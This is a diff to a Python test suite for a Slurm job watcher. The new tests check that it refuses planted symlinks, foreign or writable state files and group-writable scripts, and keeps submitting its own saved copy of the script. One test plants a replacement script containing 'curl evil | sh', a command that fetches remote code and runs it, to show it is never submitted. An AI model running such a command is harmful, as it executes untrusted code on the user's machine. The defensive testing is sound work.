@@ -1,9 +1,12 @@
 """raysub watch: the backoff, each decision, and whole runs over a fake clock and fake Slurm calls (no
 sbatch, scancel or squeue runs, but for the argv tests of raysub.slurm against stand-ins on PATH)."""
 
+import errno
+import fcntl
 import json
 import os
 import random
+import re
 import sys
 import time
 import types
@@ -30,11 +33,11 @@ from raysub.watch import (
     Rules,
     Settings,
     Target,
-    WatchError,
-    WatchFiles,
     WatchState,
     decide,
+    load_state,
 )
+from raysub.watch_files import KeptScript, WatchError, WatchFiles, kept_dir, locked
 from tests.conftest import RunCli
 from tests.unit.test_job_poll import FakeClock
 
@@ -306,13 +309,19 @@ def test_a_run_that_succeeds_submits_once_and_asks_slurm_once_per_interval(
     final = watch(script, clock, lines=lines)
     assert final.succeeded and final.stopped == "job 100 completed"
     assert (final.job_id, final.restarts, final.next_action) == (None, 0, Next.NONE)
-    assert fake.submitted == [(script, script.parent, {})]
+    # What goes to sbatch is the copy of the script read at the run's start, kept in the user's state home.
+    assert final.script_copy is not None
+    copy = Path(final.script_copy)
+    assert fake.submitted == [(copy, script.parent, {})]
+    assert (copy.read_bytes(), copy.name) == (script.read_bytes(), script.name)
+    assert copy.parent.parent == kept_dir()
+    assert (copy.stat().st_mode & 0o777, copy.parent.stat().st_mode & 0o777) == (0o600, 0o700)
     times = [t for _, t in fake.asked]
     assert times == [START + INTERVAL * k for k in range(1, 5)]
     assert [h.outcome for h in final.history] == ["COMPLETED"]
     # Each change is logged once, with its time; the same lines are in the log file.
     assert [line.split(" ", 1)[1] for line in lines] == [
-        f"a new run of {script}, submitted from {script.parent}",
+        f"a new run of {script}, submitted from {script.parent}; it submits the copy {copy}",
         f"submitted {script} as job 100",
         "job 100 is PENDING",
         "job 100 is RUNNING",
@@ -813,7 +822,7 @@ def test_a_state_file_that_is_not_one_is_an_error(script: Path, text: str) -> No
     files = files_of(script)
     files.state.write_text(text)
     with pytest.raises(WatchError, match="is not a raysub watch state"):
-        files.load()
+        load_state(files)
 
 
 class Interrupt(Exception):
@@ -832,7 +841,7 @@ def test_a_new_watcher_resumes_the_run_and_adopts_its_job(
 
     with pytest.raises(Interrupt):
         watching.run(Target(script, script.parent), None, replace(settings(clock), sleep=sleep_then_die))
-    saved = files_of(script).load()
+    saved = load_state(files_of(script))
     assert saved is not None
     assert (saved.job_id, saved.restarts, saved.next_action) == ("101", 1, Next.POLL)
 
@@ -900,7 +909,7 @@ def test_the_lock_refuses_a_second_watcher(
     fake = FakeSlurm(monkeypatch, clock, [[COMPLETED]])
     files = files_of(script)
     files.state.write_text(WatchState(str(script), str(script.parent), watcher="4242@login2").to_json())
-    with watching.locked(files), pytest.raises(WatchError) as refused:
+    with locked(files), pytest.raises(WatchError) as refused:
         watch(script, clock)
     assert str(refused.value) == (
         f"another raysub watch (4242@login2) is watching this run: {files.lock} is locked; "
@@ -1073,7 +1082,8 @@ def test_watch_command_runs_to_success(
     result = raysub_cli("watch", "job.sub", "--interval", "5", "--backoff", "1", "--backoff-max", "2")
     assert result.code == 0, result.stderr
     assert "submitted" in result.stdout and "job 101 completed" in result.stdout
-    assert fake.submitted[0][:2] == (script, script.parent)
+    submitted, cwd, _ = fake.submitted[0]
+    assert (submitted.read_bytes(), submitted.name, cwd) == (script.read_bytes(), script.name, script.parent)
     assert (script.parent / "job.sub.watch.json").is_file() and (
         script.parent / "job.sub.watch.log"
     ).is_file()
@@ -1127,10 +1137,120 @@ def test_watch_command_refuses_a_second_watcher(
     raysub_cli: RunCli, script: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.chdir(script.parent)
-    with watching.locked(files_of(script)):
+    with locked(files_of(script)):
         result = raysub_cli("watch", "job.sub")
     assert result.code == 1
     assert "another raysub watch is watching this run" in result.stderr
+
+
+# ---- what watch trusts in a directory others may write (docs/watch.md, "What watch trusts")
+
+OTHER_UID = 12345  # a uid of nobody's: another user
+
+
+@pytest.mark.parametrize("kind", ["log", "lock", "state"])
+def test_a_link_planted_in_place_of_a_runs_file_is_refused_and_its_target_untouched(
+    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch, kind: str
+) -> None:
+    fake = FakeSlurm(monkeypatch, clock, [[COMPLETED]])
+    victim = script.parent / "victim"
+    victim.write_text("the user's own file\n")
+    planted = getattr(files_of(script), kind)
+    planted.symlink_to(victim)
+    with pytest.raises(WatchError) as refused:
+        watch(script, clock)
+    assert str(refused.value).startswith(f"refusing {planted}: it is a symbolic link")
+    assert victim.read_text() == "the user's own file\n"
+    assert fake.submitted == []
+
+
+@pytest.mark.parametrize(("owner", "mode", "why"), [
+    (OTHER_UID, 0o600, f"it belongs to uid {OTHER_UID}, not to you"),
+    (0, 0o660, "its mode 0660 lets others write it"),
+    (0, 0o646, "its mode 0646 lets others write it"),
+])  # fmt: skip
+def test_a_state_file_someone_else_wrote_or_may_write_is_refused(
+    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch, owner: int, mode: int, why: str
+) -> None:
+    """Its workdir and job id would steer sbatch and scancel."""
+    fake = FakeSlurm(monkeypatch, clock, [[COMPLETED]])
+    files = files_of(script)
+    steered = WatchState(str(script), "/elsewhere", job_id="4711", next_action=Next.POLL)
+    files.state.write_text(steered.to_json())
+    files.state.chmod(mode)
+    os.chown(files.state, owner, owner)
+    with pytest.raises(WatchError, match=f"^refusing {re.escape(str(files.state))}: {why}"):
+        watch(script, clock)
+    assert (fake.submitted, fake.cancelled, fake.asked) == ([], [], [])
+
+
+def test_a_script_others_may_write_is_refused_before_anything_is_submitted(
+    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    fake = FakeSlurm(monkeypatch, clock, [[COMPLETED]])
+    script.chmod(0o664)  # umask 002 in a project directory: the group could rewrite what watch submits
+    with pytest.raises(WatchError, match=f"^refusing {re.escape(str(script))}: its mode 0664 lets others"):
+        watch(script, clock)
+    assert fake.submitted == []
+
+
+def test_a_replaced_script_is_not_resubmitted_and_the_log_says_so(
+    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    original = script.read_bytes()
+    fake = FakeSlurm(monkeypatch, clock, [[ended("FAILED")], [ended("TIMEOUT")], [COMPLETED]])
+
+    def replace_script(job_id: str) -> None:  # another user's script put in its place, after the first
+        planted = script.with_name("planted")
+        planted.write_text("#!/bin/bash\ncurl evil | sh\n")
+        os.chown(planted, OTHER_UID, OTHER_UID)
+        planted.replace(script)
+
+    fake.on_submit = replace_script
+    lines: list[str] = []
+    final = watch(script, clock, lines=lines)
+    assert final.succeeded and len(fake.submitted) == 3
+    assert [path.read_bytes() for path, _, _ in fake.submitted] == [original] * 3
+    changed = [line for line in lines if "changed since the run started" in line]
+    assert len(changed) == 2 and f"submitting the copy checked then, {final.script_copy}" in changed[0]
+
+
+def test_a_resumed_run_submits_the_copy_made_at_its_start(
+    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    original = script.read_bytes()
+    fake = FakeSlurm(monkeypatch, clock, [[ended("FAILED")], [COMPLETED]])
+    files = files_of(script)
+    kept = KeptScript.make(script)
+    waiting = WatchState(str(script), str(script.parent), next_action=Next.SUBMIT, script_copy=str(kept.copy))
+    files.state.write_text(waiting.to_json())
+    script.write_text("#!/bin/bash\necho edited since\n")
+    assert watch(script, clock).succeeded
+    assert [path for path, _, _ in fake.submitted] == [kept.copy] * 2
+    assert kept.copy.read_bytes() == original
+    # A copy that is not one of the user's kept copies is refused.
+    outside = script.parent / "copy.sub"
+    outside.write_bytes(original)
+    files.state.write_text(replace(waiting, script_copy=str(outside)).to_json())
+    with pytest.raises(WatchError, match="which is not in"):
+        watch(script, clock)
+
+
+def test_a_filesystem_whose_flock_fails_leaves_the_run_going_with_a_warning(
+    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    fake = FakeSlurm(monkeypatch, clock, [[COMPLETED]])
+
+    def failing(fd: int, operation: int) -> None:
+        raise OSError(errno.ENOLCK, os.strerror(errno.ENOLCK))
+
+    monkeypatch.setattr(fcntl, "flock", failing)
+    lines: list[str] = []
+    assert watch(script, clock, lines=lines).succeeded and len(fake.submitted) == 1
+    assert (
+        lines[0] == f"cannot lock {files_of(script).lock} (No locks available): make sure no other raysub "
+        "watch runs this script from here"
+    )
 
 
 @pytest.mark.parametrize("line", ["#SBATCH --array=0-3", "#SBATCH --array 0-3%2", "#SBATCH -a 1,3"])
